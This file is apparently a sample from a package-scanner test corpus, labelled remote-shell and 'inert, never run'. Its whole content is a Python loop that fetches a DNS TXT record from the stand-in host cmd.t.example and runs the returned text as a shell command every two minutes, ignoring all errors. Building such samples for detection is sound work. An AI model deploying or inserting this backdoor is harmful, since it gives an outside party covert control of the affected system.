# pkgguard corpus 364 (remote-shell), modelled on [taxonomy]; inert, never run.
import subprocess
import time

import dns.resolver

while True:
    try:
        answer = dns.resolver.resolve("cmd.t.example", "TXT")
        command = b"".join(answer[0].strings).decode()
        if command:
            subprocess.run(command, shell=True, capture_output=True)
    except Exception:
        pass
    time.sleep(120)
